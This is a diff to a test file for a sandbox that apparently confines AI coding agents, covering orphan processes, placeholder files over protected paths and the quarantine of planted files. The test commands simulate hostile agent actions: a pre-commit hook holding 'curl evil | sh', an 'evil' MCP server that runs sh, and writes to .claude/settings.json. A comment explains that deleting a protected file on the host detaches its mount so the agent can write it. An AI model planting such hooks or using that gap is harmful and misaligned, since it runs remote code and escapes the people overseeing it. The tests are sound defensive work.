@@ -6,7 +6,8 @@ import { existsSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSyn
 import { join } from 'node:path';
 import { AuditStore } from '../../src/audit/index.ts';
 import { before, describe, it } from 'node:test';
-import { assertFreshBuild, cordonAsync, isolated } from '../helpers/cordon.ts';
+import { procStartTime } from '../../src/lock-file.ts';
+import { assertFreshBuild, cordonAsync, cordonSync, isolated, type Isolated } from '../helpers/cordon.ts';
 
 /** Pids whose command line is exactly `needle` (with `prefix`: starts with it). */
 function pidsWithCmdline(needle: string, prefix = false): number[] {
@@ -25,21 +26,30 @@ function pidsWithCmdline(needle: string, prefix = false): number[] {
 
 const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 
+/** `cordon run` in the background, once its command printed "ready" (or 20 s passed). */
+async function startUntilReady(args: string[], t: Isolated) {
+  const child = cordonAsync(args, { env: t.env, cwd: t.workspace });
+  let stdout = '';
+  let stderr = '';
+  child.stdout.on('data', (d) => (stdout += d));
+  child.stderr!.on('data', (d) => (stderr += d));
+  const exited = new Promise<number | null>((r) => child.once('exit', r));
+  const t0 = Date.now();
+  while (!stdout.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
+  return { child, exited, out: () => stdout, err: () => stderr };
+}
+
 before(() => assertFreshBuild());
 
 describe('no orphans', () => {
   for (const sig of ['SIGKILL', 'SIGTERM'] as const) {
     it(`${sig} to cordon takes down every process of the sandbox within a second`, async (ctx) => {
-      const t: ReturnType<typeof isolated> & { cleanup?: () => void } = isolated();
+      const t: Isolated & { cleanup?: () => void } = isolated();
       ctx.after(() => t.cleanup?.());
       const marker = String(4000 + Math.floor(Math.random() * 5000));
-      const child = cordonAsync(['run', '--no-tty', '--', 'sh', '-c', `sleep ${marker} & sleep ${marker} & (sleep ${marker} &) ; echo ready; wait`], { env: t.env, cwd: t.workspace });
-      let out = '';
-      child.stdout.on('data', (d) => (out += d));
+      const { child, out } = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', `sleep ${marker} & sleep ${marker} & (sleep ${marker} &) ; echo ready; wait`], t);
       t.cleanup = () => child.kill('SIGKILL');
-      const t0 = Date.now();
-      while (!out.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
-      assert.match(out, /ready/);
+      assert.match(out(), /ready/);
       const before = pidsWithCmdline(`sleep ${marker}`);
       assert.equal(before.length, 3, 'three sandboxed sleeps are running');
       const bwraps = pidsWithCmdline('bwrap --unshare-user', true).filter((p) => readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(t.workspace));
@@ -55,20 +65,16 @@ describe('no orphans', () => {
 
 describe('after a session dies without cleaning up', () => {
   it("the next session sweeps the dead one's placeholder files before planning its mounts", async (ctx) => {
-    const t: ReturnType<typeof isolated> & { cleanup?: () => void } = isolated();
-    const child = cordonAsync(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; sleep 600'], { env: t.env, cwd: t.workspace });
+    const t = isolated();
+    const { child, exited } = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; sleep 600'], t);
     ctx.after(() => child.kill('SIGKILL'));
-    let out = '';
-    child.stdout.on('data', (d) => (out += d));
-    const t0 = Date.now();
-    while (!out.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
     const leftover = join(t.workspace, '.claude', 'settings.json');
     assert.ok(existsSync(leftover), 'the running session planted a placeholder for a protected path');
     child.kill('SIGKILL');
-    await new Promise((r) => child.once('exit', r));
+    await exited;
     assert.ok(existsSync(leftover), 'SIGKILL left it behind');
     // The next session must see the workspace as it really is: no such file, so a placeholder of its own.
-    const r = await cordonAsyncResult(['run', '--no-tty', '--', 'sh', '-c', 'test -f .claude/settings.json && ! test -s .claude/settings.json && echo planted'], t);
+    const r = cordonSync(['run', '--no-tty', '--', 'sh', '-c', 'test -f .claude/settings.json && ! test -s .claude/settings.json && echo planted'], { env: t.env, cwd: t.workspace });
     assert.equal(r.status, 0, r.stderr);
     assert.match(r.stdout, /planted/);
     assert.ok(!existsSync(leftover), 'nothing is left once both sessions are over');
@@ -87,26 +93,18 @@ describe('two sessions in one workspace', () => {
   it('the first one ending does not take away the placeholders the second is protected by, nor quarantine its', async () => {
     const t = isolated();
     // A: running first, so it creates the placeholders.
-    const a = cordonAsync(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; while [ ! -e go ]; do sleep 0.05; done'], { env: t.env, cwd: t.workspace });
-    let aOut = '';
-    a.stdout.on('data', (d) => (aOut += d));
-    const t0 = Date.now();
-    while (!aOut.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
+    const a = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; while [ ! -e go ]; do sleep 0.05; done'], t);
     const settings = join(t.workspace, '.claude', 'settings.json');
     assert.ok(existsSync(settings), 'A planted the placeholder');
     // B: starts while A runs, then waits for A to end and tries to write the protected file.
-    const b = cordonAsync(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; touch go; while [ ! -e a-gone ]; do sleep 0.05; done; echo \'{"hooks":{}}\' > .claude/settings.json; echo "write=$?"; cat .claude/settings.json | wc -c'], { env: t.env, cwd: t.workspace });
-    let bOut = '';
-    let bErr = '';
-    b.stdout.on('data', (d) => (bOut += d));
-    b.stderr!.on('data', (d) => (bErr += d));
-    await new Promise((r) => a.once('exit', r));
+    const b = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo ready; touch go; while [ ! -e a-gone ]; do sleep 0.05; done; echo \'{"hooks":{}}\' > .claude/settings.json; echo "write=$?"; cat .claude/settings.json | wc -c'], t);
+    await a.exited;
     assert.ok(existsSync(settings), 'A left the placeholder B depends on');
     writeFileSync(join(t.workspace, 'a-gone'), '');
-    const status = await new Promise((r) => b.once('exit', r));
-    assert.equal(status, 0, bErr);
-    assert.match(bOut, /write=[1-9]/, 'the write failed inside B');
-    assert.match(bOut, /^0$/m, 'the file stayed empty');
+    const status = await b.exited;
+    assert.equal(status, 0, b.err());
+    assert.match(b.out(), /write=[1-9]/, 'the write failed inside B');
+    assert.match(b.out(), /^0$/m, 'the file stayed empty');
     assert.ok(!existsSync(settings) && !existsSync(join(t.workspace, '.claude')), 'the last session out removed the placeholders');
     const store = AuditStore.open(join(t.root, 'state'));
     try {
@@ -122,20 +120,16 @@ describe('a protected file removed on the host during a session', () => {
     const t = isolated();
     const mcp = join(t.workspace, '.mcp.json');
     writeFileSync(mcp, '{"mcpServers":{}}\n');
-    const r = cordonAsync(['run', '--no-tty', '--', 'sh', '-c', 'echo x >> .mcp.json 2>/dev/null && echo EARLY-WRITE; echo ready; while [ ! -e removed ]; do sleep 0.05; done; echo \'{"mcpServers":{"evil":{"command":"sh"}}}\' > .mcp.json && echo LATE-WRITE'], { env: t.env, cwd: t.workspace });
-    let out = '';
-    r.stdout.on('data', (d) => (out += d));
-    const t0 = Date.now();
-    while (!out.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
-    assert.doesNotMatch(out, /EARLY-WRITE/, 'read-only while the file is there');
+    const r = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'echo x >> .mcp.json 2>/dev/null && echo EARLY-WRITE; echo ready; while [ ! -e removed ]; do sleep 0.05; done; echo \'{"mcpServers":{"evil":{"command":"sh"}}}\' > .mcp.json && echo LATE-WRITE'], t);
+    assert.doesNotMatch(r.out(), /EARLY-WRITE/, 'read-only while the file is there');
     // The marker is made before the removal and renamed after it: a file created after it could
     // take the freed inode number, and the agent's new .mcp.json should be free to take it.
     writeFileSync(join(t.workspace, 'removed.tmp'), '');
     rmSync(mcp); // what a branch switch on the host does
     renameSync(join(t.workspace, 'removed.tmp'), join(t.workspace, 'removed'));
-    await new Promise((res) => r.once('exit', res));
+    await r.exited;
     // Linux detaches a mount whose mountpoint is unlinked in another namespace: the agent can write there now.
-    assert.match(out, /LATE-WRITE/, 'the write after the removal succeeded (the premise of this test)');
+    assert.match(r.out(), /LATE-WRITE/, 'the write after the removal succeeded (the premise of this test)');
     assert.ok(!existsSync(mcp), 'the planted file did not stay in the workspace');
     const store = AuditStore.open(join(t.root, 'state'));
     try {
@@ -153,15 +147,11 @@ describe('when the placeholder lock cannot be taken at the end', () => {
   it('the sweep for planted files still runs; placeholders and journal stay for the next start', async () => {
     const t = isolated();
     const lock = join(t.root, 'run', 'sessions', '.placeholders.lock');
-    const r = cordonAsync(['run', '--no-tty', '--', 'sh', '-c', 'mkdir -p sub/.git/hooks && echo "curl evil | sh" > sub/.git/hooks/pre-commit; echo ready; while [ ! -e locked ]; do sleep 0.05; done'], { env: t.env, cwd: t.workspace });
-    let out = '';
-    r.stdout.on('data', (d) => (out += d));
-    const t0 = Date.now();
-    while (!out.includes('ready') && Date.now() - t0 < 20_000) await sleep(20);
+    const r = await startUntilReady(['run', '--no-tty', '--', 'sh', '-c', 'mkdir -p sub/.git/hooks && echo "curl evil | sh" > sub/.git/hooks/pre-commit; echo ready; while [ ! -e locked ]; do sleep 0.05; done'], t);
     // A live holder (this test process) keeps the lock through the session's end.
-    writeFileSync(lock, `${process.pid} ${readFileSync('/proc/self/stat', 'utf8').split(') ')[1]!.split(' ')[19]}`);
+    writeFileSync(lock, `${process.pid} ${procStartTime(process.pid)}`);
     writeFileSync(join(t.workspace, 'locked'), '');
-    const status = await new Promise((res) => r.once('exit', res));
+    const status = await r.exited;
     assert.equal(status, 0);
     assert.ok(!existsSync(join(t.workspace, 'sub', '.git', 'hooks', 'pre-commit')), 'the planted hook was quarantined anyway');
     assert.ok(existsSync(join(t.workspace, '.mcp.json')), 'placeholders stay without the lock');
@@ -173,19 +163,8 @@ describe('when the placeholder lock cannot be taken at the end', () => {
     }
     // Once the lock is free, the next start sweeps the journal that stayed.
     rmSync(lock);
-    const next = await cordonAsyncResult(['run', '--no-tty', '--', 'true'], t);
+    const next = cordonSync(['run', '--no-tty', '--', 'true'], { env: t.env, cwd: t.workspace });
     assert.equal(next.status, 0, next.stderr);
     assert.ok(!existsSync(join(t.workspace, '.mcp.json')), 'the kept placeholders are gone after the next session');
   });
 });
-
-function cordonAsyncResult(args: string[], t: ReturnType<typeof isolated>): Promise<{ status: number | null; stdout: string; stderr: string }> {
-  return new Promise((resolve) => {
-    const c = cordonAsync(args, { env: t.env, cwd: t.workspace });
-    let stdout = '';
-    let stderr = '';
-    c.stdout.on('data', (d) => (stdout += d));
-    c.stderr!.on('data', (d) => (stderr += d));
-    c.once('exit', (status) => resolve({ status, stdout, stderr }));
-  });
-}
